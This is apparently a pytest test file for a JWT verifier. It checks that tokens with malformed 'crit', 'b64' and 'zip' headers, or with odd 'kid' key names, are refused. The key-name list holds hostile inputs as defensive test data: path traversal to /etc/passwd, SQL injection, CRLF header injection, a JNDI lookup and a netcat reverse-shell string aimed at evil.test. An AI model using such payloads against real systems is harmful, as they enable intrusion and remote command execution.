"""Parameters of a header that ask for more than they should."""

from __future__ import annotations

from typing import Any, Final

import pytest

from tests.forging import (
    encode,
    text_of,
)

from .forgeries import (
    NONE_OF_YOURS,
    payload_with,
    signed,
)
from .siege import Attack, Siege, attack, attacks

# Extensions.

_EXTENSIONS: Final[list[dict[str, Any]]] = [
    {"crit": ["exp"]},
    {"crit": ["b64"], "b64": False},
    {"crit": ["b64"], "b64": True},
    {"crit": [NONE_OF_YOURS], NONE_OF_YOURS: True},
    {"crit": ["alg"]},
    {"crit": []},
    {"crit": None},
    {"crit": "exp"},
    {"crit": {}},
    {"crit": False},
    {"b64": False},
    {"b64": True},
    {"b64": None},
    {"zip": "DEF"},
    {"zip": None},
]

EXTENSIONS: Final = attacks(
    _EXTENSIONS, lambda issuer, headers: issuer.token(headers=headers), "malformed_token"
)


@pytest.mark.parametrize("attacked", EXTENSIONS)
def test_an_extension_of_any_kind(siege: Siege, attacked: Attack) -> None:
    siege.assert_fails(attacked)


def test_a_payload_that_is_not_encoded(siege: Siege) -> None:
    header = encode(b'{"alg":"EdDSA","b64":false,"crit":["b64"]}')
    payload = payload_with(siege.issuer, "").decode().replace(".", "")

    siege.assert_refused(signed(siege.issuer, header, payload), "malformed_token")


# The key's name.

NAMES: Final = (
    "../../../../../../etc/passwd",
    "/dev/null-and-more",
    "C:\\windows\\win.ini",
    "' UNION SELECT 'secret-key' --",
    "x' OR '1'='1'; DROP TABLE keys",
    "name-with-nul\0-and-more",
    "name\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "name-with-\u2028-and-\u0085",
    "na\u00efve-\U0001f600-key-name",
    "%s%n%(message)s{0.__class__}",
    '"quoted-name", error="none"',
    "https://evil.test/jwks.json",
    "| nc evil.test 1 -e /bin/sh",
    "${jndi:ldap://evil.test/a}",
    "spaces in a long name",
    "jwtauth:1:0000000000:jwks",
    "k" * 1024,
)

_NO_NAMES: Final[tuple[Any, ...]] = (
    *(None, True, 0, 1, -1.5, 10**300, [], ["a"], [NONE_OF_YOURS], {}, {"kid": "a"}),
)

NO_NAMES: Final = [
    *attacks(_NO_NAMES, lambda issuer, kid: issuer.token(headers={"kid": kid}), "malformed_token"),
    attack(
        "of 10,000 characters",
        lambda issuer: issuer.token(headers={"kid": "k" * 10_000}),
        "malformed_token",
        hidden=["k" * 40],
    ),
    attack(
        "with half a surrogate pair",
        lambda issuer: issuer.token(headers=b'{"alg":"EdDSA","kid":"\\ud800"}'),
        "malformed_token",
    ),
    attack(
        "twice",
        lambda issuer: issuer.token(headers=b'{"alg":"EdDSA","kid":"a","kid":"b"}'),
        "malformed_token",
    ),
]


@pytest.mark.parametrize("name", NAMES)
def test_an_odd_name_of_a_key(siege: Siege, name: str) -> None:
    token = siege.issuer.token(headers={"kid": name})

    siege.assert_refused(token, "unknown_key", hidden=[name, repr(name), text_of(name), name[:40]])


@pytest.mark.parametrize("attacked", NO_NAMES)
def test_a_name_of_a_key_that_is_none(siege: Siege, attacked: Attack) -> None:
    siege.assert_fails(attacked)
